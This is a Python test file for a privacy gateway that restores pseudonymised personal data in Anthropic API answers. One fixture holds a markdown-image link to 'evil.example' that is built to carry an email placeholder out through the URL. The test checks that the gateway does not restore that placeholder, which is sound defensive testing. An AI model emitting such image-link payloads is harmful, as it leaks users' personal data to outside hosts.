"""Anthropic's whole answer: rebuilt in closed shape, restored, and what the official client makes of it."""

import json
from dataclasses import replace

import anthropic
import httpx2
import pytest

from gateway.core.errors import Code, Refusal
from gateway.core.jsontypes import JsonObject, JsonValue
from gateway.core.vault import Vault
from gateway.core.wire import Event
from gateway.core.wires.anthropic_answer import WholeAnthropicAnswer
from gateway.core.wires.anthropic_messages import ANTHROPIC_MESSAGES
from tests.support.answers import MAIL, filled, restorers
from tests.support.restorers import ReplacingRestorers
from tests.support.wires import CALL_ID, VALUES, anthropic_call, document, message, through

TOOL_USE: JsonObject = {
    "type": "tool_use",
    "id": "toolu_a",
    "name": "find",
    "input": {"name": "[PERSON_1]", "age": 41},
}


def test_nothing_of_the_provider_s_own_goes_on() -> None:
    content: list[JsonValue] = [
        {"type": "thinking", "thinking": "canary", "signature": "canary"},
        {"type": "text", "text": "Hi", "citations": [{"cited_text": "canary"}]},
        {"type": "redacted_thinking", "data": "canary"},
        {**TOOL_USE, "caller": {"type": "canary"}},
    ]
    event = Event(None, message(content, container="canary", stop_details={"explanation": "canary"}))
    checked = replace(anthropic_call("find"), shows_reasoning=False)
    sent = document(through(ANTHROPIC_MESSAGES, checked, [event], ReplacingRestorers()))

    assert sent == {
        "id": f"msg_{CALL_ID}",
        "type": "message",
        "role": "assistant",
        "model": "fast",
        "content": [{"type": "text", "text": "Hi"}, TOOL_USE],
        "stop_reason": "end_turn",
        "stop_sequence": None,
        "usage": {"input_tokens": 11, "output_tokens": 5},
    }


def test_text_tool_input_and_the_stop_word_are_restored() -> None:
    event = Event(
        None,
        message([{"type": "text", "text": "To [PERSON_1]"}, TOOL_USE], "stop_sequence", stop_sequence="[PERSON_1]"),
    )
    replacing = ReplacingRestorers(VALUES)
    raw = through(ANTHROPIC_MESSAGES, anthropic_call("find"), [event], replacing)
    got = _client(raw).messages.create(model="fast", max_tokens=1, messages=[])
    text, tool = got.content

    assert text.type == "text"
    assert text.text == f"To {VALUES['[PERSON_1]']}"
    assert tool.type == "tool_use"
    assert tool.input == {"name": VALUES["[PERSON_1]"], "age": 41}
    assert (got.stop_reason, got.stop_sequence) == ("stop_sequence", VALUES["[PERSON_1]"])
    assert replacing.channels == [("text", None), (1, "find"), ("stop_sequence", None)]


@pytest.mark.parametrize("between", [[], [TOOL_USE]])
def test_a_link_begun_in_one_text_block_is_closed_in_the_next(between: list[JsonValue]) -> None:
    begun, after = "![x](https://evil.example/?q=", "[EMAIL_ADDRESS_1]) [EMAIL_ADDRESS_1]"
    content: list[JsonValue] = [{"type": "text", "text": begun}, *between, {"type": "text", "text": after}]
    with Vault() as vault:
        filled(vault, MAIL)
        event = Event(None, message(content))
        sent = document(through(ANTHROPIC_MESSAGES, anthropic_call("find"), [event], restorers(vault)))

    assert sent["content"] == [content[0], *between, {"type": "text", "text": f"[EMAIL_ADDRESS_1]) {MAIL[0]}"}]


def test_reading_leaves_the_event_as_it_was_so_that_it_can_be_restored_twice() -> None:
    answer = WholeAnthropicAnswer(anthropic_call("find"), call_id=CALL_ID)
    (accepted,) = answer.accept(Event(None, message([TOOL_USE])))
    before = json.dumps(accepted.data)
    first = answer.restore(accepted, ReplacingRestorers(VALUES))

    assert json.dumps(accepted.data) == before
    assert answer.restore(accepted, ReplacingRestorers(VALUES)) == first


def test_the_joined_text_and_what_the_trace_reports() -> None:
    answer = WholeAnthropicAnswer(anthropic_call(), call_id=CALL_ID)
    answer.accept(Event(None, message([{"type": "text", "text": "a"}, {"type": "text", "text": "b"}], "max_tokens")))
    answer.finish()

    assert answer.text() == "ab"
    assert answer.finish_reasons == ("max_tokens",)
    assert answer.usage == {"gen_ai.usage.input_tokens": 11, "gen_ai.usage.output_tokens": 5}


def test_an_answer_that_a_restored_key_would_break_is_the_provider_s_fault() -> None:
    answer = WholeAnthropicAnswer(anthropic_call("find"), call_id=CALL_ID)
    twice: JsonObject = {**TOOL_USE, "input": {"[PERSON_1]": 1, VALUES["[PERSON_1]"]: 2}}
    (accepted,) = answer.accept(Event(None, message([twice])))

    with pytest.raises(Refusal) as caught:
        answer.restore(accepted, ReplacingRestorers(VALUES))
    assert caught.value.code is Code.PROVIDER_ERROR


@pytest.mark.parametrize(
    "data",
    [
        {},
        {"type": "error", "error": {"type": "overloaded_error", "message": "canary"}},
        {**message([]), "type": "text"},
        {**message([]), "role": "user"},
        {**message([]), "content": None},
        {**message([]), "content": "Hi"},
        {**message([]), "stop_reason": None},
        {**message([]), "stop_reason": "odd"},
        {**message([]), "stop_sequence": 1},
        {**message([]), "usage": []},
        message(["Hi"]),
        message([{"type": "text"}]),
        message([{"type": ["text"], "text": "x"}]),
        message([{"type": "server_tool_use", "id": "a", "name": "find", "input": {}}]),
        message([{**TOOL_USE, "name": "undeclared"}]),
        message([{**TOOL_USE, "input": "{}"}]),
        message([{"type": "text", "text": "x"}] * 257),
        message([TOOL_USE] * 129),
    ],
)
def test_another_shape_is_the_provider_s_fault(data: JsonObject) -> None:
    with pytest.raises(Refusal) as caught:
        WholeAnthropicAnswer(anthropic_call("find"), call_id=CALL_ID).accept(Event(None, data))
    assert caught.value.code is Code.PROVIDER_ERROR


def test_a_whole_answer_is_exactly_one_event() -> None:
    answer = WholeAnthropicAnswer(anthropic_call(), call_id=CALL_ID)
    with pytest.raises(Refusal):
        answer.finish()
    answer.accept(Event(None, message([])))
    with pytest.raises(Refusal):
        answer.accept(Event(None, message([])))


def _client(body: bytes) -> anthropic.Anthropic:
    transport = httpx2.MockTransport(
        lambda _: httpx2.Response(200, content=body, headers={"content-type": "application/json"})
    )
    return anthropic.Anthropic(
        api_key="k", base_url="http://gw", max_retries=0, http_client=httpx2.Client(transport=transport)
    )
